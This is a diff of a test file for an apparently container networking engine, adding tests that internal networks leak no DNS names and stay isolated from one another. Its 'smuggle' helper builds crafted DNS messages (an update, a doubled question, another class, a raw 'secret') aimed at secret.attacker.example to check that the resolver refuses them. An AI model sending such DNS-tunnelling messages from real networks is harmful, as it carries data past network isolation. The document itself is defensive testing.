@@ -1,6 +1,7 @@
 """Attacks from the network: a neighbour on the LAN, a container beside, names that are to leave an internal network."""
 
 import asyncio
+import contextlib
 import socket
 import struct
 import time
@@ -12,7 +13,7 @@ import pytest
 from engine.networks.options import PIN
 from tests import needs, network_lab
 from tests.network_frames import advertise_router, answered
-from tests.network_lab import LAB_ADDRESS, Lab, looked_up
+from tests.network_lab import LAB_ADDRESS, Lab, dns_question, looked_up
 
 pytestmark = [needs.root, needs.binary("nft"), needs.binary("ip")]
 
@@ -54,6 +55,7 @@ def test_no_name_leaves_an_internal_network(tmp_path: Path) -> None:
         for name in ("safe", "other"):
             await networks.allocate(name, {}, {"NetworkMode": "vault"}, {"vault": {"Aliases": [f"{name}-alias"]}})
         inside = await asyncio.to_thread(looked_up, lab, "safe", "other-alias")
+        await asyncio.to_thread(lab.inside, "safe", smuggle)
         outside = await asyncio.to_thread(looked_up, lab, "safe", "secret.attacker.example")
         await networks.close()
         asyncio.get_running_loop().remove_reader(server)
@@ -65,6 +67,54 @@ def test_no_name_leaves_an_internal_network(tmp_path: Path) -> None:
         assert asked == []
     finally:
         lab.close()
+
+
+def smuggle() -> None:
+    """Messages that are no questions, or not quite, and could carry a secret all the same."""
+    question = dns_question("secret.attacker.example")
+    head = struct.Struct("!6H")
+    for message in (
+        head.pack(7, 0x2800, 1, 0, 0, 0) + question[12:],  # an update
+        head.pack(7, 0x0100, 2, 0, 0, 0) + question[12:] * 2,
+        question[:-2] + b"\0\3",  # of another class
+        b"secret, and nothing else",
+    ):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
+            asking.sendto(message, ("127.0.0.11", 53))
+        with socket.create_connection(("127.0.0.11", 53), 30) as stream:
+            stream.sendall(len(message).to_bytes(2, "big") + message)
+            answered = stream.recv(512)
+            assert not answered or answered[5] & 0xF == 5, "refused, if anything"
+
+
+def heard(lab: Lab, address: str) -> bool:
+    """Whether a datagram arrives."""
+
+    def bound() -> socket.socket:
+        made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        made.bind((address, 5353))
+        made.settimeout(0.3)
+        return made
+
+    with lab.inside("db" if address == "10.97.0.3" else "safe", bound) as listening:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
+            with contextlib.suppress(OSError):
+                sending.sendto(b"hello", (address, 5353))
+        try:
+            return listening.recv(16) == b"hello"
+        except TimeoutError:
+            return False
+
+
+def test_one_networks_containers_are_not_there_for_anothers(town: Lab) -> None:
+    """By any protocol, whoever is asked to pass it on, and under a false sender's address too."""
+    with town.listen("db", 80), town.listen("safe", 80):
+        for address in ("10.97.0.3", "10.98.0.2"):
+            assert not town.tries("web", address, 80)
+            assert not answered(town, "web", address, 80)
+            assert not town.inside("web", lambda to=address: heard(town, to))
+        assert town.tries("app", "10.97.0.3", 80), "it is there for its own"
+        assert town.inside("app", lambda: heard(town, "10.97.0.3"))
 
 
 def test_a_spoofed_router_is_believed_by_nobody(town: Lab) -> None:
